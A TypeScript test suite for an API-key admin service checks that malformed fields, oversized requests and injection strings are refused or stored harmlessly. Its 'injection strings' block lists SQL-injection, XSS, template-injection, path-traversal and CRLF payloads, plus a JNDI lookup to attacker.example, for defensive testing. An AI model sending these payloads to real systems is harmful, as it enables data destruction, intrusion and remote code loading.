import { Code, type ConnectError } from "@connectrpc/connect";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type KeyAdminClient,
  postConnectJson,
  rpcError,
  TRANSPORTS,
  violatedFields,
} from "../helpers/admin-clients.js";
import { EnvoyClient } from "../helpers/envoy-client.js";
import { useAdminApp } from "../helpers/harness.js";

const DAY_S = 86_400n;

const h = useAdminApp();

/**
 * The call failed with INVALID_ARGUMENT naming exactly `fields` in its BadRequest details and its message,
 * and the message stays short whatever the input was.
 */
async function expectInvalid(call: Promise<unknown>, ...fields: string[]): Promise<ConnectError> {
  const err = await rpcError(call);
  expect(Code[err.code], err.rawMessage).toBe("InvalidArgument");
  expect(violatedFields(err)).toEqual(fields);
  for (const field of fields) expect(err.rawMessage).toContain(field);
  expect(err.rawMessage.length).toBeLessThan(2000);
  return err;
}

const range = (n: number, f: (i: number) => string) => Array.from({ length: n }, (_, i) => f(i));

describe.each(TRANSPORTS)("bad input over %s", (transport) => {
  const company = `val-${transport}`;
  let admin: KeyAdminClient;
  let root: KeyAdminClient;
  let keyId: string;

  beforeAll(async () => {
    admin = await h.companyAdmin(company, transport);
    root = h.platform(transport);
    keyId = (await admin.createKey({ name: "target" })).key?.id ?? "";
  });

  describe("company_id", () => {
    it("is required when a platform admin creates a key", async () => {
      await expectInvalid(root.createKey({}), "company_id");
    });

    it.each([
      ["too long (129)", "c".repeat(129)],
      ["a space", "acme corp"],
      ["a slash", "acme/evil"],
      ["a leading dash", "-acme"],
      ["non-ASCII", "acmé"],
    ])("is refused with %s", async (_what, companyId) => {
      await expectInvalid(root.createKey({ companyId }), "company_id");
    });

    it("accepts 128 characters", async () => {
      const companyId = `x${"c".repeat(127)}`;
      expect((await root.createKey({ companyId })).key?.companyId).toBe(companyId);
    });
  });

  describe("name", () => {
    it("is refused at 129 characters and accepted at 128", async () => {
      await expectInvalid(admin.createKey({ name: "n".repeat(129) }), "name");
      const { key } = await admin.createKey({ name: "n".repeat(128) });
      expect(key?.name).toHaveLength(128);
      await admin.revokeKey({ keyId: key?.id ?? "", reason: "cleanup" });
    });

    it.each([
      ["a newline", "line\nbreak"],
      ["a tab", "tab\there"],
      ["an escape", "esc\u001b[31m"],
      ["a DEL", "del\u007f"],
      ["a C1 control", "c1\u0085"],
      ["a NUL", "nul\u0000"],
    ])("is refused with %s", async (_what, name) => {
      await expectInvalid(admin.createKey({ name }), "name");
    });

    it("is checked on UpdateKey as key.name", async () => {
      await expectInvalid(
        admin.updateKey({ key: { id: keyId, name: "x".repeat(129) }, updateMask: { paths: ["name"] } }),
        "key.name",
      );
      expect((await admin.getKey({ keyId })).name).toBe("target");
    });
  });

  describe("scopes", () => {
    it.each([
      "Orders:read",
      "orders",
      "orders:",
      ":read",
      "orders:read:extra",
      "*:read",
      "orders:re ad",
      "1orders:read",
      "orders:*x",
      `orders:${"a".repeat(65)}`,
      "",
    ])("refuses %j, naming its index", async (bad) => {
      await expectInvalid(admin.createKey({ scopes: ["orders:read", bad] }), "scopes[1]");
    });

    it("accepts resource:action, resource:* and *", async () => {
      const scopes = ["orders:read", "orders.v2:write-all", "invoices:*", "*", `a${"b".repeat(63)}:c`];
      expect((await admin.createKey({ scopes })).key?.scopes).toEqual(scopes);
    });

    it("refuses 65 scopes and accepts 64", async () => {
      await expectInvalid(admin.createKey({ scopes: range(65, (i) => `r${i}:read`) }), "scopes");
      expect((await admin.createKey({ scopes: range(64, (i) => `r${i}:read`) })).key?.scopes).toHaveLength(
        64,
      );
    });

    it("is checked on UpdateKey as key.scopes[i]", async () => {
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, scopes: ["ok:read", "NOT OK"] },
          updateMask: { paths: ["scopes"] },
        }),
        "key.scopes[1]",
      );
    });
  });

  describe("ip_allowlist", () => {
    it.each([
      "10.0.0.0/33",
      "2001:db8::/129",
      "10.0.0.256",
      "10.0.0.0/",
      "10.0.0.0/8/8",
      "10.0.0.0/-1",
      "not-an-ip",
      "example.com",
      "",
      "::g",
    ])("refuses %j, naming its index", async (bad) => {
      await expectInvalid(admin.createKey({ ipAllowlist: ["10.0.0.0/8", bad] }), "ip_allowlist[1]");
    });

    it("accepts IPv4 and IPv6 CIDRs and bare addresses", async () => {
      const list = ["10.0.0.0/8", "192.0.2.1", "2001:db8::/32", "::1", "::ffff:203.0.113.0/120", "0.0.0.0/0"];
      expect((await admin.createKey({ ipAllowlist: list })).key?.ipAllowlist).toEqual(list);
    });

    it("refuses 65 entries and accepts 64", async () => {
      await expectInvalid(
        admin.createKey({ ipAllowlist: range(65, (i) => `10.0.${i}.0/24`) }),
        "ip_allowlist",
      );
      const { key } = await admin.createKey({ ipAllowlist: range(64, (i) => `10.0.${i}.0/24`) });
      expect(key?.ipAllowlist).toHaveLength(64);
    });

    it("is checked on UpdateKey as key.ip_allowlist[i]", async () => {
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, ipAllowlist: ["nope"] },
          updateMask: { paths: ["ip_allowlist"] },
        }),
        "key.ip_allowlist[0]",
      );
    });
  });

  describe("environment", () => {
    it.each(["prod", "LIVE", "Test", " live"])("refuses %j", async (environment) => {
      await expectInvalid(admin.createKey({ environment }), "environment");
    });

    it("refuses an unknown environment or status filter on ListKeys", async () => {
      await expectInvalid(admin.listKeys({ environment: "staging" }), "environment");
      await expectInvalid(admin.listKeys({ status: "expired" }), "status");
    });
  });

  describe("metadata", () => {
    it("refuses 33 pairs and accepts 32", async () => {
      const pairs = (n: number) => Object.fromEntries(range(n, (i) => `k${i}`).map((k) => [k, "v"]));
      await expectInvalid(admin.createKey({ metadata: pairs(33) }), "metadata");
      expect(Object.keys((await admin.createKey({ metadata: pairs(32) })).key?.metadata ?? {})).toHaveLength(
        32,
      );
    });

    it("refuses a 65-character key and accepts 64", async () => {
      const err = await rpcError(admin.createKey({ metadata: { ["k".repeat(65)]: "v" } }));
      expect(err.code).toBe(Code.InvalidArgument);
      expect(violatedFields(err)).toEqual([`metadata["${"k".repeat(64)}…"]`]);
      const { key } = await admin.createKey({ metadata: { ["k".repeat(64)]: "v" } });
      expect(Object.keys(key?.metadata ?? {})).toEqual(["k".repeat(64)]);
    });

    it("refuses an empty key", async () => {
      await expectInvalid(admin.createKey({ metadata: { "": "v" } }), 'metadata[""]');
    });

    it("refuses a 513-character value and accepts 512", async () => {
      await expectInvalid(admin.createKey({ metadata: { note: "v".repeat(513) } }), 'metadata["note"]');
      expect(
        (await admin.createKey({ metadata: { note: "v".repeat(512) } })).key?.metadata.note,
      ).toHaveLength(512);
    });

    it("refuses a NUL in a key or a value, which the database cannot store", async () => {
      await expectInvalid(admin.createKey({ metadata: { note: "a\u0000b" } }), 'metadata["note"]');
      await expectInvalid(admin.createKey({ metadata: { "a\u0000b": "v" } }), 'metadata["a?b"]');
    });

    it("is checked on UpdateKey as key.metadata", async () => {
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, metadata: { x: "v".repeat(513) } },
          updateMask: { paths: ["metadata"] },
        }),
        'key.metadata["x"]',
      );
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, metadata: { x: "\u0000" } },
          updateMask: { paths: ["metadata"] },
        }),
        'key.metadata["x"]',
      );
    });
  });

  describe("tags", () => {
    it.each(["with space", "", "-leading", "t".repeat(65), "semi;colon", "quote'", "emoji😀"])(
      "refuses %j, naming its index",
      async (bad) => {
        await expectInvalid(admin.createKey({ tags: ["ok", bad] }), "tags[1]");
      },
    );

    it("refuses 33 tags and accepts 32", async () => {
      await expectInvalid(admin.createKey({ tags: range(33, (i) => `t${i}`) }), "tags");
      expect((await admin.createKey({ tags: range(32, (i) => `t${i}`) })).key?.tags).toHaveLength(32);
    });

    it("is checked on UpdateKey as key.tags[i]", async () => {
      await expectInvalid(
        admin.updateKey({ key: { id: keyId, tags: ["fine", "not fine"] }, updateMask: { paths: ["tags"] } }),
        "key.tags[1]",
      );
    });
  });

  describe("expiry", () => {
    const inSeconds = (s: number) => ({ seconds: BigInt(Math.floor(Date.now() / 1000) + s) });

    it("refuses an expire_time in the past or now", async () => {
      await expectInvalid(admin.createKey({ expireTime: inSeconds(-60) }), "expire_time");
      await expectInvalid(admin.createKey({ expireTime: { seconds: 0n } }), "expire_time");
    });

    it("refuses a past expire_time on UpdateKey as key.expire_time", async () => {
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, expireTime: inSeconds(-1) },
          updateMask: { paths: ["expire_time"] },
        }),
        "key.expire_time",
      );
      expect((await admin.getKey({ keyId })).expireTime).toBeUndefined();
    });

    it("refuses a negative or zero ttl", async () => {
      await expectInvalid(admin.createKey({ ttl: { seconds: -1n } }), "ttl");
      await expectInvalid(admin.createKey({ ttl: { seconds: 0n } }), "ttl");
      await expectInvalid(admin.createKey({ ttl: { seconds: 0n, nanos: 1000 } }), "ttl");
    });

    it("refuses a ttl over 100 years", async () => {
      await expectInvalid(admin.createKey({ ttl: { seconds: 36_501n * DAY_S } }), "ttl");
    });

    it("refuses expire_time and ttl together", async () => {
      await expectInvalid(admin.createKey({ expireTime: inSeconds(3600), ttl: { seconds: 3600n } }), "ttl");
    });
  });

  describe("rate_limit", () => {
    const window = { seconds: 60n };
    it.each([
      ["zero requests", { requests: 0, window }, "rate_limit.requests"],
      ["over a billion requests", { requests: 1_000_000_001, window }, "rate_limit.requests"],
      ["over a billion burst", { requests: 10, window, burst: 1_000_000_001 }, "rate_limit.burst"],
      ["no window", { requests: 10 }, "rate_limit.window"],
      [
        "a window under 1s",
        { requests: 10, window: { seconds: 0n, nanos: 500_000_000 } },
        "rate_limit.window",
      ],
      ["a window over a day", { requests: 10, window: { seconds: DAY_S + 1n } }, "rate_limit.window"],
      ["a negative window", { requests: 10, window: { seconds: -60n } }, "rate_limit.window"],
    ])("refuses %s", async (_what, rateLimit, field) => {
      await expectInvalid(admin.createKey({ rateLimit }), field);
    });

    it("accepts the bounds: 1 and 1e9 requests, 1s and 1 day windows", async () => {
      const low = await admin.createKey({ rateLimit: { requests: 1, window: { seconds: 1n } } });
      expect(low.key?.rateLimit?.requests).toBe(1);
      const high = await admin.createKey({
        rateLimit: { requests: 1_000_000_000, window: { seconds: DAY_S }, burst: 1_000_000_000 },
      });
      expect(high.key?.rateLimit?.window?.seconds).toBe(DAY_S);
    });

    it("is checked on UpdateKey as key.rate_limit.*", async () => {
      await expectInvalid(
        admin.updateKey({
          key: { id: keyId, rateLimit: { requests: 0, window } },
          updateMask: { paths: ["rate_limit"] },
        }),
        "key.rate_limit.requests",
      );
    });
  });

  it("names every bad field of one request at once", async () => {
    const err = await rpcError(
      admin.createKey({ name: "n".repeat(200), scopes: ["BAD"], environment: "prod", tags: ["bad tag"] }),
    );
    expect(violatedFields(err).sort()).toEqual(["environment", "name", "scopes[0]", "tags[0]"]);
  });

  describe("other requests", () => {
    it.each([-1, 1001])("refuses page_size %i on ListKeys and ListAuditEvents", async (pageSize) => {
      await expectInvalid(admin.listKeys({ pageSize }), "page_size");
      await expectInvalid(admin.listAuditEvents({ pageSize }), "page_size");
    });

    it("requires a revoke reason and bounds suspend and revoke reasons at 1024", async () => {
      await expectInvalid(admin.revokeKey({ keyId, reason: "" }), "reason");
      await expectInvalid(admin.revokeKey({ keyId, reason: "r".repeat(1025) }), "reason");
      await expectInvalid(admin.suspendKey({ keyId, reason: "r".repeat(1025) }), "reason");
      expect((await admin.getKey({ keyId })).status).toBe("active");
    });

    it("refuses a negative, over-long or malformed grace period", async () => {
      await expectInvalid(admin.rotateKey({ keyId, gracePeriod: { seconds: -1n } }), "grace_period");
      await expectInvalid(
        admin.rotateKey({ keyId, gracePeriod: { seconds: 0n, nanos: -1 } }),
        "grace_period",
      );
      await expectInvalid(admin.rotateKey({ keyId, gracePeriod: { seconds: 31n * DAY_S } }), "grace_period");
      expect((await admin.getKey({ keyId })).rotatedToKeyId).toBe("");
    });

    it("refuses a usage window that ends before it starts", async () => {
      const now = BigInt(Math.floor(Date.now() / 1000));
      await expectInvalid(
        admin.getKeyUsage({ keyId, startTime: { seconds: now }, endTime: { seconds: now - 1n } }),
        "start_time",
      );
    });

    it("refuses a NUL in ids, reasons and filters instead of failing inside the database", async () => {
      await expectInvalid(admin.getKey({ keyId: "key_\u0000" }), "key_id");
      await expectInvalid(admin.suspendKey({ keyId: "key_\u0000" }), "key_id");
      await expectInvalid(admin.revokeKey({ keyId, reason: "a\u0000b" }), "reason");
      await expectInvalid(admin.suspendKey({ keyId, reason: "a\u0000b" }), "reason");
      await expectInvalid(admin.listKeys({ tag: "a\u0000" }), "tag");
      await expectInvalid(admin.listKeys({ companyId: "a\u0000" }), "company_id");
      await expectInvalid(admin.listAuditEvents({ action: "a\u0000" }), "action");
      await expectInvalid(
        admin.updateKey({ key: { id: "key_\u0000", name: "x" }, updateMask: { paths: ["name"] } }),
        "key.id",
      );
      expect((await admin.getKey({ keyId })).status).toBe("active");
    });
  });

  describe("huge requests", () => {
    const big = "x".repeat(900_000);
    const keyCount = async () => (await root.listKeys({ companyId: company, pageSize: 1000 })).keys.length;
    let before: number;
    beforeAll(async () => {
      before = await keyCount();
    });

    it.each([
      ["name", () => admin.createKey({ name: big }), "name"],
      ["a scope", () => admin.createKey({ scopes: [big] }), "scopes[0]"],
      ["a metadata value", () => admin.createKey({ metadata: { k: big } }), 'metadata["k"]'],
      ["a tag", () => admin.createKey({ tags: [big] }), "tags[0]"],
      ["a CIDR", () => admin.createKey({ ipAllowlist: [big] }), "ip_allowlist[0]"],
      ["a company id", () => root.createKey({ companyId: big }), "company_id"],
      ["a revoke reason", () => admin.revokeKey({ keyId, reason: big }), "reason"],
    ])("refuses a ~900 KB %s with a short error naming it", async (_what, call, field) => {
      await expectInvalid(call(), field);
    });

    it("answers NOT_FOUND, not a fault, for a ~900 KB key id", async () => {
      const err = await rpcError(admin.getKey({ keyId: big }));
      expect(err.code).toBe(Code.NotFound);
      expect(err.rawMessage.length).toBeLessThan(200);
      expect((await rpcError(admin.suspendKey({ keyId: big }))).code).toBe(Code.NotFound);
    });

    it("stored none of it", async () => {
      expect(await keyCount()).toBe(before);
    });
  });
});

// Over HTTP/1.1 the body is sent with fetch, as curl would: when the server refuses an oversized body before
// the client has sent all of it, connect-node's own HTTP/1.1 client sometimes sees the connection reset
// instead of the answer, depending only on the body size (it does so against a plain node:http server too).
describe("a body over 1 MiB", () => {
  const sizes = [1_100_000, 2_000_000, 3_000_000];

  it("is refused as RESOURCE_EXHAUSTED over gRPC and h2c, and the listener keeps serving", async () => {
    const admin = h.platform("grpc-h2c");
    for (const size of sizes) {
      const err = await rpcError(admin.createKey({ companyId: "val-big", name: "x".repeat(size) }));
      expect(Code[err.code]).toBe("ResourceExhausted");
    }
    expect((await admin.listKeys({ companyId: "val-big" })).keys).toEqual([]);
  });

  it("is refused as resource_exhausted to a curl-style Connect JSON POST, and the listener keeps serving", async () => {
    for (const size of sizes) {
      const res = await postConnectJson(
        h.t.adminUrl,
        "CreateKey",
        { companyId: "val-big", name: "x".repeat(size) },
        h.platformSecret,
      );
      expect(res.status).toBe(429);
      expect(res.body).toMatchObject({ code: "resource_exhausted" });
    }
    const list = await postConnectJson(h.t.adminUrl, "ListKeys", { companyId: "val-big" }, h.platformSecret);
    expect(list).toMatchObject({ status: 200, body: {} });
    expect((list.body as { keys?: unknown[] }).keys ?? []).toEqual([]);
  });
});

describe("injection strings", () => {
  const hostile = [
    "'; DROP TABLE keys; --",
    '" OR "1"="1',
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the payload
    "{{7*7}}${7*7}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the payload
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "\\u0000 \\x00 \\",
    "Robert'); DELETE FROM audit_events;--",
    "ünïcødé 名前 🔑 مفتاح",
    "$where: function() { return true }",
    "\u202eevil\u202c",
  ];
  let admin: KeyAdminClient;
  let adminSecret: string;
  let envoy: EnvoyClient;

  beforeAll(async () => {
    adminSecret = (await h.t.mintKey({ companyId: "inject-co", scopes: ["keys:admin"] })).secret;
    admin = h.clients.client("grpc-h2c", adminSecret);
    envoy = new EnvoyClient(h.t.authzAddress);
  });
  afterAll(() => envoy.close());

  it.each(hostile)("stores %j verbatim in name and metadata, and nothing breaks", async (s) => {
    const name = s.slice(0, 128);
    const metadata = { [s.slice(0, 64)]: s, note: s };
    const { key, secret } = await admin.createKey({ name, metadata, scopes: ["inject:read"] });
    const id = key?.id ?? "";
    expect(key?.name).toBe(name);
    expect(key?.metadata).toEqual(metadata);
    const got = await admin.getKey({ keyId: id });
    expect(got.name).toBe(name);
    expect(got.metadata).toEqual(metadata);
    const json = await postConnectJson(h.t.adminUrl, "GetKey", { keyId: id }, adminSecret);
    expect(json.body).toMatchObject({ name, metadata });
    const updated = await admin.updateKey({
      key: { id, name: `${name.slice(0, 100)}!` },
      updateMask: { paths: ["name"] },
    });
    expect(updated.name).toBe(`${name.slice(0, 100)}!`);
    const { events } = await admin.listAuditEvents({ keyId: id });
    expect(events.map((e) => e.action)).toEqual(["key.update", "key.create"]);
    expect(events[0]?.before).toEqual({ name });
    const check = await envoy.check({
      headers: { authorization: `Bearer ${secret}` },
      contextExtensions: { scopes: "inject:read" },
    });
    expect(check.status.code).toBe(0);
  });

  it("treats hostile filters as plain values that match nothing", async () => {
    for (const s of hostile) {
      expect((await admin.listKeys({ tag: s })).keys).toEqual([]);
      expect((await admin.listKeys({ companyId: s })).keys).toEqual([]);
      expect((await admin.listAuditEvents({ action: s })).events).toEqual([]);
      expect((await rpcError(admin.getKey({ keyId: s }))).code).toBe(Code.NotFound);
    }
    expect((await admin.listKeys({ pageSize: 1000 })).keys.length).toBeGreaterThan(hostile.length);
  });

  it("keeps a hostile revoke reason verbatim in the key and its audit event", async () => {
    const { key } = await admin.createKey({});
    const reason = "'); UPDATE keys SET status='active'; -- <b>x</b>";
    expect((await admin.revokeKey({ keyId: key?.id ?? "", reason })).revokeReason).toBe(reason);
    const { events } = await admin.listAuditEvents({ keyId: key?.id ?? "", action: "key.revoke" });
    expect(events[0]?.reason).toBe(reason);
  });
});
